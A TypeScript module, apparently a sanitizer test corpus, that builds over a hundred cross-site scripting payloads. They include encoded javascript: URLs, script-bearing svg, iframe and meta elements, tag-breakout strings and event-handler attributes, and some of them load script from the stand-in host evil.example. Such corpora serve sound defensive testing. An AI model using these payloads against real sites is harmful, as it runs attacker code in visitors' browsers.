const CALL = 'pwned(1)';

/** Ways to say an address that runs something. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `java&#x09;script:${CALL}`,
  `java\tscript:${CALL}`,
  `&#1;javascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
  `//evil.example/x.js`,
  `javascript://%0a${CALL}`,
];

/** Elements that run something by themselves. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `</script><script>${CALL}</script>`,
  `<script\n>${CALL}</script\n>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><foreignObject><script>${CALL}</script></foreignObject></svg>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<style>@import '//evil.example/x.css'; body { background: url(//evil.example/y) }</style>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><script>${CALL}</script>"></noscript>`,
  `<textarea></textarea><script>${CALL}</script>`,
  `<title></title><script>${CALL}</script>`,
  `<plaintext><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `<!--<script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<portal src="javascript:${CALL}">`,
  `<a href=javascript:${CALL} autofocus>x</a>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `\`><script>${CALL}</script>`,
  `</pre></code></div><script>${CALL}</script>`,
  `</article></main><script>${CALL}</script>`,
];

/** Attributes that run something when something happens. */
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'oncopy',
  'onscroll',
  'onclick',
  'onhashchange',
  'onpageshow',
  'onresize',
  'onwheel',
  'onsecuritypolicyviolation',
];
const CARRIERS = ['img src=x', 'body', 'input autofocus'];

/** A hundred and more ways to have a script run where text is shown. */
export function attacks(): string[] {
  const handlers = HANDLERS.flatMap((name) => CARRIERS.map((carrier) => `<${carrier} ${name}=${CALL}>`));
  const attributes = [
    `" onfocus=${CALL} autofocus x="`,
    `' onfocus=${CALL} autofocus x='`,
    `x onmouseover=${CALL}`,
  ];
  return [...ADDRESSES, ...ELEMENTS, ...handlers, ...attributes];
}
